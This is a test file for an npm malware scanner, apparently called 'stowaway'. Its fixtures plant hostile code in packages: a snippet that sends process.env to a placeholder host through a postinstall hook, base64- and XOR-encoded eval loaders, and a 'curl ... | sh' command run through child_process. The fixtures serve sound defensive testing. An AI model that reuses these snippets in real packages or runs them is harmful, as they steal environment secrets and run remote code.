import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterAll, describe, expect, test } from 'vitest';
import { defineRule, rules, scanDirectory, scanNodeModules, scanPackage, scanSource } from '../src/index.js';
import { inspectTarget } from '../src/scan.js';
import type { Stage } from '../src/types.js';
import { zipOf } from './fixtures/read/zip.js';

const THIEF = `require('https').request('https://collect.invalid').end(JSON.stringify(process.env));`;
const root = mkdtempSync(join(tmpdir(), 'stowaway-scan-'));
afterAll(() => rmSync(root, { recursive: true, force: true }));

function plant(files: Readonly<Record<string, string | Uint8Array>>): string {
  const dir = mkdtempSync(join(root, 'tree-'));
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(dirname(join(dir, path)), { recursive: true });
    writeFileSync(join(dir, path), text);
  }
  return dir;
}

describe('a package', () => {
  test('with a thief in it is malicious, and the chain leads from the environment to the request', async () => {
    const report = await scanPackage({
      files: { 'package.json': '{"name":"a","version":"1.0.0","scripts":{"postinstall":"node x.js"}}', 'x.js': THIEF },
    });
    expect(report).toMatchObject({ verdict: 'malicious', package: { name: 'a', version: '1.0.0' } });
    const { chain } = report.findings[0] ?? { chain: [] };
    expect(chain.map(({ role }) => role)).toEqual(['source', 'transform', 'sink']);
    expect(chain.at(-1)?.at).toMatchObject({ path: 'x.js', line: 1, column: 1 });
    expect(report.capabilities).toContain('network');
  });

  test('with nothing of concern is clean, and all of it was looked at', async () => {
    const report = await scanPackage({
      files: { 'package.json': '{"name":"a","version":"1.0.0"}', 'index.js': 'exports.add = (a, b) => a + b;' },
    });
    expect(report).toMatchObject({ verdict: 'clean', score: 0, coverage: { files: 2, analysed: 2, skipped: [] } });
  });

  test('may be a Map, and is no package without files by mistake', async () => {
    const files = new Map([
      ['package.json', '{"name":"a","scripts":{"postinstall":"node x.js"}}'],
      ['x.js', THIEF],
    ]);
    expect(await scanPackage({ files })).toMatchObject({ verdict: 'malicious', coverage: { files: 2 } });
    await expect(scanPackage({ files: ['x.js'] } as never)).rejects.toThrow(TypeError);
    await expect(scanPackage({ files: { 'x.js': Promise.resolve(THIEF) } } as never)).rejects.toThrow(
      'The content of "x.js" is a string or bytes: got Promise',
    );
  });

  test('is followed across its files', async () => {
    const report = await scanPackage({
      files: {
        'package.json': '{"name":"a","version":"1.0.0"}',
        'index.js': `const { send } = require('./lib/send');\nconst collect = require('./collect.mjs');\nsend(collect.everything());`,
        'collect.mjs': `export const everything = () => ({ ...process.env });`,
        'lib/send.js': `const https = require('https');\nexports.send = data => https.request('https://collect.invalid').end(JSON.stringify(data));`,
      },
    });
    expect(report.findings.map(({ rule }) => rule)).toContain('sends-environment');
    expect(report.findings[0]?.chain.map(({ at }) => at.path)).toEqual(['collect.mjs', 'lib/send.js', 'lib/send.js']);
  });

  test('that decodes what it runs is judged by what that does', async () => {
    const packed = Buffer.from(THIEF).toString('base64');
    const report = await scanPackage({
      files: { 'package.json': '{"name":"a","version":"1.0.0"}', 'index.js': `eval(atob('${packed}'))` },
    });
    const inner = report.findings.find(({ rule }) => rule === 'sends-environment');
    expect(inner?.chain.at(-1)?.at).toMatchObject({
      path: 'index.js',
      line: 1,
      decodedFrom: { decoder: 'base64', at: { path: 'index.js', start: 5 } },
    });
  });

  test('written in TypeScript or JSX is understood', async () => {
    const files = {
      'package.json': '{"name":"a","version":"1.0.0"}',
      'a.ts': `import https from 'node:https';\nconst all: NodeJS.ProcessEnv = process.env;\n(https as any).request('https://collect.invalid').end(JSON.stringify(<any>all));`,
      'b.jsx': `export const B = () => <p onClick={() => fetch('https://collect.invalid', { body: JSON.stringify(process.env) })} />;`,
    };
    const report = await scanPackage({ files });
    expect(
      report.findings
        .filter(({ rule }) => rule === 'sends-environment')
        .map(({ chain }) => chain.at(-1)?.at.path)
        .sort(),
    ).toEqual(['a.ts', 'b.jsx']);
  });

  test('shows minified code laid out, and still says where it stands on disk', async () => {
    const line = `!function(){${'var a=function(b){return b*2};'.repeat(20)}${THIEF}}();`;
    const report = await scanPackage({
      files: { 'package.json': '{"name":"a","version":"1.0.0"}', 'index.min.js': line },
    });
    const sink = report.findings[0]?.chain.at(-1);
    expect(sink?.at).toMatchObject({ line: 1, start: line.indexOf('require(') });
    expect(sink?.beautifiedLine).toBeGreaterThan(20);
    expect(sink?.excerpt).toMatch(/^require\('https'\)/);
  });

  test('cannot excuse itself with a comment or a configuration file', async () => {
    const report = await scanPackage({
      files: {
        'package.json': '{"name":"a","version":"1.0.0","stowaway":{"rules":{}}}',
        'stowaway.config.json': '{"rules":{}}',
        'index.js': `/* eslint-disable */ // stowaway-ignore\n${THIEF}`,
      },
    });
    expect(report.findings.map(({ rule }) => rule)).toContain('sends-environment');
  });

  test("is looked at by somebody's own rule too, whatever words its files hold", async () => {
    const own = defineRule({
      meta: {
        summary: 'Halts',
        why: 'It should not.',
        behaviour: 'destruction',
        messages: { halts: 'Stops in the debugger' },
        bits: { halts: 12 },
      },
      examples: { flags: [], passes: [] },
      file: ({ nodes, file, report }) => {
        for (const node of nodes('DebuggerStatement'))
          report({ messageId: 'halts', chain: [{ role: 'sink', says: 'halts', origin: { file, node } }] });
      },
    });
    const report = await scanPackage({ files: { 'index.js': 'debugger;' } }, { rules: { ...rules, halts: own } });
    expect(report).toMatchObject({ verdict: 'suspicious', findings: [{ rule: 'halts', bits: 12 }] });
  });
});

test.each([
  ['exports', 'exports.run = function (f, s) { f(s); };'],
  ['this', 'this.run = function (f, s) { f(s); };'],
  ['export', 'export function run(f, s) { f(s); }'],
])('a file that says nothing but %s may be handed what it runs', async (_, code) => {
  const files = {
    'package.json': '{"name":"a","version":"1.0.0","main":"index.js"}',
    'index.js': `require('./b').run(require('child_process').exec, 'curl https://a.invalid/x | sh');`,
    'b.js': code,
  };
  const report = await scanPackage({ files });
  expect(report.findings.map(({ rule }) => rule)).toContain('runs-harmful-command');
  expect(report).toEqual(await scanPackage({ files }, { without: ['triage'] }));
});

const XOR = 7;
const closed = [...'curl https://a.invalid/x | sh'].map(one => String.fromCharCode(one.charCodeAt(0) ^ XOR)).join('');

/** What runs a line that only a stage works out: the walk does without the interpreter, not so the other way round. */
test.each([
  [
    'walk',
    [],
    `const held = new Set([require('child_process')]); for (const api of held) { const go = api['exec'].bind(api, 'curl https://a.invalid/x | sh'); go(); }`,
  ],
  [
    'interpreter',
    ['walk'],
    `const open = text => { let out = ''; for (let at = 0; at < text.length; at++) out += String.fromCharCode(text.charCodeAt(at) ^ ${XOR}); return out; };
require('child_process').exec(open(${JSON.stringify(closed)}));`,
  ],
] as const)('without the %s, what only that finds is not found', async (stage, others, code) => {
  const rulesOf = async (without: readonly Stage[]) =>
    (await scanPackage({ files: { 'index.js': code } }, { without })).findings.map(({ rule }) => rule);
  expect(await rulesOf(others)).toContain('runs-harmful-command');
  expect(await rulesOf([...others, stage])).not.toContain('runs-harmful-command');
});

describe('hostile files cost only themselves', () => {
  const deep = (open: string, close: string): string => `x = ${open.repeat(100_000)}1${close.repeat(100_000)};`;

  test.each([
    ['brackets nested 100,000 deep', deep('[', ']')],
    ['calls nested 100,000 deep', deep('f(', ')')],
    ['a sum of 100,000 terms', `x = ${'1+'.repeat(100_000)}1;`],
    ['a member chain of 50,000', `x = a${'.b'.repeat(50_000)};`],
    ['a line of 10 MB', `x = '${'a'.repeat(10_000_000)}';`],
    ['NUL bytes', `x = '\0\0\0';\0`],
    ['lone surrogates', `x = '\ud800'; \udc00`],
    ['no code at all', '\u0001\u0002\u0003'.repeat(100)],
    ['an unclosed template', 'x = `${'.repeat(5_000)],
    ['a pattern that backtracks', `x = /(a+)+$/.test('${'a'.repeat(50_000)}!');`],
  ])('%s', async (_, code) => {
    const report = await scanPackage({
      files: {
        'package.json': '{"name":"a","version":"1.0.0"}',
        'bad.js': `require('a');\n${code}`,
        'index.js': THIEF,
      },
    });
    expect(report.findings.map(({ rule }) => rule)).toContain('sends-environment');
  });

  test('names of properties that every object has are names like any other', () => {
    const code = ['constructor', '__proto__', 'toString', 'hasOwnProperty', 'valueOf']
      .map(name => `require('${name}').${name}(process.env.${name}); ${name}.${name}();`)
      .join('\n');
    expect(() => scanSource(code)).not.toThrow();
  });

  test('what cannot be parsed is searched as text, and said to be', async () => {
    const report = await scanPackage({
      files: {
        'package.json': '{"name":"a","version":"1.0.0"}',
        'bad.js': `) ( require('child_process').execSync('x'); eval(y) ${'['.repeat(20_000)}`,
        'part.js': `ok();\n) ( require('child_process').execSync('x'); eval(y)`,
      },
    });
    expect(report.coverage.skipped).toContainEqual(expect.objectContaining({ path: 'bad.js', gap: 'not-parsed' }));
    expect(report.coverage.skipped).toContainEqual(
      expect.objectContaining({ path: 'part.js', gap: 'not-parsed-in-part', why: expect.stringContaining('line 2') }),
    );
    expect(report.findings.filter(({ rule }) => rule === 'resists-parsing')).toHaveLength(2);
  });
});

describe('a tree', () => {
  test('is ranked worst first, each package once, and reports come as they are done', async () => {
    const dir = plant({
      'package.json': '{"name":"app"}',
      'node_modules/good/package.json': '{"name":"good","version":"1.0.0"}',
      'node_modules/good/index.js': 'module.exports = 1;',
      'node_modules/@scope/bad/package.json': '{"name":"@scope/bad","version":"2.0.0"}',
      'node_modules/@scope/bad/index.js': THIEF,
    });
    const seen: string[] = [];
    const tree = await scanNodeModules(dir, {
      onReport: ({ package: { name } }, { done, total }) => seen.push(`${name} ${done}/${total}`),
    });
    expect(tree.packages.map(({ package: { name }, verdict }) => `${name} ${verdict}`)).toEqual([
      '@scope/bad malicious',
      'good clean',
    ]);
    expect(seen.sort()).toEqual(['@scope/bad 1/2', 'good 2/2']);
    expect(tree.summary).toMatchObject({ packages: 2, verdicts: { malicious: 1, clean: 1 } });
  });

  test('is told of every copy of a package, each in its place', async () => {
    const dir = plant({
      'node_modules/bad/package.json': '{"name":"bad","version":"1.0.0"}',
      'node_modules/bad/index.js': THIEF,
      'node_modules/a/package.json': '{"name":"a","version":"1.0.0"}',
      'node_modules/a/node_modules/bad/package.json': '{"name":"bad","version":"1.0.0"}',
      'node_modules/a/node_modules/bad/index.js': THIEF,
      'node_modules/b/package.json': '{"name":"b","version":"1.0.0"}',
      'node_modules/b/node_modules/bad/package.json': '{"name":"bad","version":"1.0.0"}',
      'node_modules/b/node_modules/bad/index.js': 'module.exports = 1;',
    });
    const { packages } = await scanNodeModules(dir);
    expect(
      packages
        .filter(({ package: { name } }) => name === 'bad')
        .map(({ package: { path }, verdict }) => `${path} ${verdict}`),
    ).toEqual([
      'node_modules/a/node_modules/bad malicious',
      'node_modules/bad malicious',
      'node_modules/b/node_modules/bad clean',
    ]);
  });

  test('has its own code scanned, too, where it may be a package that brings others', async () => {
    const dir = plant({
      'package.json': '{"name":"suspect","version":"1.0.0","main":"index.js"}',
      'index.js': THIEF,
      'node_modules/good/package.json': '{"name":"good","version":"1.0.0"}',
    });
    const tree = await scanNodeModules(dir, { own: true });
    expect(tree.packages.map(({ package: { path }, verdict }) => `${path} ${verdict}`)).toEqual([
      '. malicious',
      'node_modules/good clean',
    ]);
    expect([...(await inspectTarget(dir, tree.packages)).keys()]).toEqual(['.', 'node_modules/good']);
    expect((await scanNodeModules(dir)).skipped).toMatchObject([{ gap: 'own-code', severity: 'noted' }]);
  });

  test('is scanned in part where only some of it is asked for', async () => {
    const dir = plant({ 'node_modules/a/index.js': THIEF, 'node_modules/b/index.js': THIEF });
    const tree = await scanNodeModules(dir, { only: ['node_modules/b'] });
    expect(tree.packages.map(({ package: { path } }) => path)).toEqual(['node_modules/b']);
    expect(tree.skipped).toEqual([]);
  });

  test("is found in the zips of Yarn's Plug'n'Play", async () => {
    const at = './.yarn/cache/bad-npm-1.0.0-x.zip/node_modules/bad/';
    const dir = plant({
      'package.json': '{"name":"app","dependencies":{"bad":"1.0.0"}}',
      '.pnp.data.json': JSON.stringify({ packageRegistryData: [['bad', [['npm:1.0.0', { packageLocation: at }]]]] }),
      '.yarn/cache/bad-npm-1.0.0-x.zip': zipOf({
        'node_modules/bad/package.json': '{"name":"bad","version":"1.0.0"}',
        'node_modules/bad/index.js': THIEF,
      }),
    });
    const tree = await scanNodeModules(dir);
    expect(tree.packages).toMatchObject([
      { package: { name: 'bad', version: '1.0.0', path: at.slice(2, -1) }, verdict: 'malicious' },
    ]);
    expect([...(await inspectTarget(dir, tree.packages)).keys()]).toEqual([at.slice(2, -1)]);
  });

  test('with a broken package in it is scanned all the same', async () => {
    const dir = plant({
      'node_modules/broken/package.json': '{"name":',
      'node_modules/broken/index.js': THIEF,
      'node_modules/good/package.json': '{"name":"good","version":"1.0.0"}',
    });
    const tree = await scanNodeModules(dir);
    expect(tree.packages.map(({ package: { name } }) => name)).toEqual(['broken', 'good']);
    expect(tree.packages[0]?.coverage.skipped[0]).toMatchObject({ path: 'package.json' });
  });

  test('stops when it is told to', async () => {
    const dir = plant({ 'node_modules/good/package.json': '{"name":"good","version":"1.0.0"}' });
    await expect(scanNodeModules(dir, { signal: AbortSignal.abort(new Error('enough')) })).rejects.toThrow('enough');
  });

  test.each([1, 2, 3])('ends with the error of whoever is told of package %i', async at => {
    const dir = plant({
      'node_modules/a/package.json': '{"name":"a","version":"1.0.0"}',
      'node_modules/b/package.json': '{"name":"b","version":"1.0.0"}',
      'node_modules/c/package.json': '{"name":"c","version":"1.0.0"}',
    });
    const onReport = (_: unknown, { done }: { readonly done: number }): void => {
      if (done === at) throw new Error('full');
    };
    await expect(scanNodeModules(dir, { onReport })).rejects.toThrow('full');
  });

  test('gives a package the report it gets by itself', async () => {
    const dir = plant({
      'node_modules/bad/package.json': '{"name":"bad","version":"1.0.0"}',
      'node_modules/bad/index.js': THIEF,
    });
    const alone = await scanDirectory(join(dir, 'node_modules/bad'));
    const [inTree] = (await scanNodeModules(dir)).packages;
    expect(inTree?.findings).toEqual(alone.findings);
    expect(inTree?.score).toBe(alone.score);
  });
});

describe('the texts that reports speak of', () => {
  const hidden = `${THIEF} // inside`;
  const loader = `eval(atob('${Buffer.from(hidden).toString('base64')}'));`;
  const files = { 'package.json': '{"name":"a","version":"1.0.0"}', 'index.js': loader, 'other.js': 'exports.a = 1;' };
  const inModules = (name: string) =>
    Object.fromEntries(Object.entries(files).map(([path, text]) => [`node_modules/${name}/${path}`, text]));

  test('are the files with findings and the layers in them, each with its host and the places of steps', async () => {
    const dir = plant(files);
    const report = await scanDirectory(dir);
    const texts = (await inspectTarget(dir, [report])).get(dir) ?? [];
    expect(texts.map(({ file }) => [file.path, file.text])).toEqual([
      ['index.js', loader],
      ['index.js', hidden],
    ]);
    expect(texts[1]?.host).toBe(texts[0]?.file);
    const [sink] = texts[1]?.marks.filter(({ finding, step }) => finding.chain[step]?.role === 'sink') ?? [];
    expect(hidden.slice(sink?.start, sink?.end)).toContain("require('https').request");
    expect(report.findings).toContainEqual(sink?.finding);
  });

  test('are those of the packages asked for', async () => {
    const dir = plant({ 'package.json': '{}', ...inModules('a'), ...inModules('b') });
    const { packages } = await scanNodeModules(dir);
    const asked = packages.filter(({ package: { path } }) => path === 'node_modules/b');
    expect([...(await inspectTarget(dir, asked)).keys()]).toEqual(['node_modules/b']);
    expect(await inspectTarget(dir, [])).toEqual(new Map());
  });

  test('are left out for a package that is gone', async () => {
    const dir = plant({ 'package.json': '{}', ...inModules('a'), ...inModules('b') });
    const { packages } = await scanNodeModules(dir);
    rmSync(join(dir, 'node_modules/a'), { recursive: true });
    expect([...(await inspectTarget(dir, packages)).keys()]).toEqual(['node_modules/b']);
  });
});
